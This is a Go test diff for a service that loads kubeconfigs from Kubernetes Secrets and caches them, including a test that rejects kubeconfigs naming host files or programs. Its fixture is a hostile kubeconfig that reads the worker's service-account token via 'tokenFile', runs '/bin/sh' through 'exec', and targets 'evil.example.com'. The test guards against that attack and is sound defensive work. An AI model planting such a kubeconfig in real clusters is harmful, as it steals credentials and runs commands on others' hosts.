@@ -2,6 +2,7 @@ package kubeconfigsecret
 
 import (
 	"context"
+	"strings"
 	"testing"
 	"time"
 
@@ -16,7 +17,7 @@ func secret(ns, name string, data map[string][]byte) *corev1.Secret {
 }
 
 func TestASecretIsReadAgainOnceItsCopyIsOlderThanTheTTL(t *testing.T) {
-	c := fake.NewClientset(secret("team-a", "edge", map[string][]byte{"value": []byte("first")}))
+	c := fake.NewClientset(secret("team-a", "edge", map[string][]byte{"value": []byte(inline)}))
 	s := NewFor(c, 10*time.Second)
 	now := time.Unix(1000, 0)
 	s.now = func() time.Time { return now }
@@ -24,15 +25,16 @@ func TestASecretIsReadAgainOnceItsCopyIsOlderThanTheTTL(t *testing.T) {
 
 	got, err := s.Get(ctx, "team-a", "edge")
 	require.NoError(t, err)
-	require.Equal(t, "first", string(got))
+	require.Equal(t, inline, string(got))
 
-	_, err = c.CoreV1().Secrets("team-a").Update(ctx, secret("team-a", "edge", map[string][]byte{"value": []byte("rotated")}), metav1.UpdateOptions{})
+	rotated := strings.Replace(inline, "token: abc", "token: rotated", 1)
+	_, err = c.CoreV1().Secrets("team-a").Update(ctx, secret("team-a", "edge", map[string][]byte{"value": []byte(rotated)}), metav1.UpdateOptions{})
 	require.NoError(t, err)
 	got, _ = s.Get(ctx, "team-a", "edge")
-	require.Equal(t, "first", string(got), "within the TTL the copy is used")
+	require.Equal(t, inline, string(got), "within the TTL the copy is used")
 	now = now.Add(11 * time.Second)
 	got, _ = s.Get(ctx, "team-a", "edge")
-	require.Equal(t, "rotated", string(got))
+	require.Equal(t, rotated, string(got))
 }
 
 func TestErrorsNameTheSecretAndNeverItsContent(t *testing.T) {
@@ -48,4 +50,51 @@ func TestErrorsNameTheSecretAndNeverItsContent(t *testing.T) {
 	var none *Source
 	_, err = none.Get(ctx, "team-a", "edge")
 	require.ErrorContains(t, err, "kubeconfig Secret team-a/edge: this worker has no management cluster to read it from")
+}
+
+const inline = `apiVersion: v1
+kind: Config
+clusters:
+- name: edge
+  cluster: {server: "https://edge.example.com:6443", certificate-authority-data: Y2E=}
+users:
+- name: admin
+  user: {token: abc}
+contexts:
+- name: edge
+  context: {cluster: edge, user: admin}
+current-context: edge
+`
+
+// Whoever may write a kubeconfig Secret must not make the worker read its own files (its service account
+// token, say) or run a program, and send the result to a server of their choosing.
+func TestAKubeconfigFromASecretMayNameNoFileAndNoProgram(t *testing.T) {
+	ctx := context.Background()
+	c := fake.NewClientset(
+		secret("team-a", "inline", map[string][]byte{"value": []byte(inline)}),
+		secret("team-a", "files", map[string][]byte{"value": []byte(`apiVersion: v1
+kind: Config
+clusters:
+- name: edge
+  cluster: {server: "https://evil.example.com", certificate-authority: /etc/ssl/ca.pem}
+users:
+- name: admin
+  user:
+    tokenFile: /var/run/secrets/kubernetes.io/serviceaccount/token
+    exec: {apiVersion: client.authentication.k8s.io/v1, command: /bin/sh}
+contexts:
+- name: edge
+  context: {cluster: edge, user: admin}
+current-context: edge
+`)}),
+		secret("team-a", "garbage", map[string][]byte{"value": []byte("password: hunter2\n\t- [")}))
+	s := NewFor(c, time.Second)
+	_, err := s.Get(ctx, "team-a", "inline")
+	require.NoError(t, err)
+	_, err = s.Get(ctx, "team-a", "files")
+	require.EqualError(t, err, "kubeconfig Secret team-a/files: names files or programs on the worker's host, which a kubeconfig from a "+
+		"Secret may not: [clusters[edge].certificate-authority (use certificate-authority-data) users[admin].exec (use a token or a client "+
+		"certificate) users[admin].tokenFile (use token)]")
+	_, err = s.Get(ctx, "team-a", "garbage")
+	require.EqualError(t, err, `kubeconfig Secret team-a/garbage: key "value" is not a kubeconfig`)
 }
